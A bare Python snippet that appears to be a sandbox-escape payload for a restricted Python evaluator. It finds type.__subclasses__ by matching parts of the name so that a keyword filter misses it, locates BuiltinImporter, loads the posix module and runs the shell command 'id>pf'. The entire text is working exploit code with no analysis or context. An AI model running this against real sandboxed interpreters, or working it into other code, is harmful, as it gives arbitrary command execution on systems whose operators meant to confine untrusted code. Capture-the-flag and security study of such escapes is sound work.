for n in dir(type):
    if n.startswith("__subcl") and n.endswith("es__"):
        subs = getattr(type, n)(object)
for c in subs:
    if c.__name__ == "BuiltinImporter":
        c.load_module("posix").system("id>pf")
